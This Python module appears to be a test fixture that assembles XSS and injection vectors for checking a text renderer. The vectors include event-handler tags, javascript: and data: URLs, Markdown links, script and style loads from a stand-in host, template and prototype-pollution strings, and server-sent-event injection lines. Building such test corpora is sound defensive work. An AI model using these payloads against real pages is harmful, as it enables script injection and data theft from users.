"""Texts that try to become something else than text: what a hostile model, card or person writes.

Each would call alert (which the tests count), load something from elsewhere, or leave the page, if any
part of it were read as markup, as an address, as a style or as a template.
"""

from itertools import product

CALL = "alert(1)"
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart",
    "ontoggle", "onpointerenter", "onbegin",
)  # fmt: skip
TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x",
    "iframe src=x", "object data=x", "marquee", "select autofocus", "math", "a href=x",
)  # fmt: skip
QUOTES = ("", '"', "'", "`", "-->", "</textarea>", "</title>", "</script>", "]]>")
ADDRESSES = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}",
    f" javascript:{CALL}", f"\x01javascript:{CALL}", f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//elsewhere.invalid/x", "https://elsewhere.invalid/x", "blob:https://elsewhere.invalid/x",
)  # fmt: skip
MARKDOWN = ("[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "![x]({} \"t\")", "[![x]({})]({})")
ODD = (
    f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", "<script src=//elsewhere.invalid/x></script>",
    f"<scr<script>ipt>{CALL}</script>", f"<<script>{CALL}//<</script>", f"<script\x00>{CALL}</script>",
    f"<svg><script>{CALL}</script></svg>", f"<svg><animate onbegin={CALL} attributeName=x>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
    f"<template><img src=x onerror={CALL}></template>", f"<iframe srcdoc='<script>{CALL}</script>'>",
    "<link rel=stylesheet href=//elsewhere.invalid/x>", "<link rel=prefetch href=//elsewhere.invalid/x>",
    "<base href=//elsewhere.invalid/>", f"<meta http-equiv=refresh content='0;javascript:{CALL}'>",
    "<meta http-equiv=refresh content='0;//elsewhere.invalid/x'>",
    "<style>*{background:url(//elsewhere.invalid/x)}</style>", "<style>@import '//elsewhere.invalid/x';</style>",
    "<form action=//elsewhere.invalid/x><button>go</button></form>", "<img src=//elsewhere.invalid/x>",
    "<embed src=//elsewhere.invalid/x>", "<video poster=//elsewhere.invalid/x>",
    "<input type=image src=//elsewhere.invalid/x>", "<body background=//elsewhere.invalid/x>",
    "<p style='background:url(//elsewhere.invalid/x)'>x</p>", f"<a href='javascript:{CALL}'>x</a>",
    f"${{{CALL}}}", f"{{{{{CALL}}}}}", f"{{{{constructor.constructor('{CALL}')()}}}}", f"#{{{CALL}}}",
    f"<%= {CALL} %>", f"`${{{CALL}}}`", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty",
    '{"__html": "<img src=x onerror=alert(1)>"}', '{"dangerouslySetInnerHTML": {"__html": "x"}}',
    "</div></article></section><h1>mine</h1>", f"<x contenteditable onblur={CALL}>x", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;", "\\u003cimg src=x onerror=alert(1)\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u202e<script>alert(1)</script>", "\ufeff<script>alert(1)</script>",
    f"**<img src=x onerror={CALL}>**", f"*<img src=x onerror={CALL}>*", f"`<img src=x onerror={CALL}>`",
    f"```html\n<script>{CALL}</script>\n```", f"# <img src=x onerror={CALL}>", f"> <img src=x onerror={CALL}>",
    f"| <img src=x onerror={CALL}> |\n|---|", f"<!--><img src=x onerror={CALL}>-->", f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<?xml-stylesheet href=\"javascript:{CALL}\"?>", "data: x\n\nevent: end\ndata: {}\n\n", "\r\n\r\nevent: error\r\ndata: {}\r\n\r\n",
    "*" * 500, "`" * 500, "**a" * 200, "\n" * 300, "a" * 5000, "\u0300" * 200, "👩‍👩‍👧‍👦" * 50, "\x00\x01\x02\x7f",
)  # fmt: skip

VECTORS: tuple[str, ...] = (
    *(f"<{tag} {event}={CALL}>" for tag, event in product(TAGS, EVENTS)),
    *(f"{quote}><img src=x onerror={CALL}>" for quote in QUOTES),
    *(shape.format(*[address] * shape.count("{}")) for shape in MARKDOWN for address in ADDRESSES),
    *ODD,
)
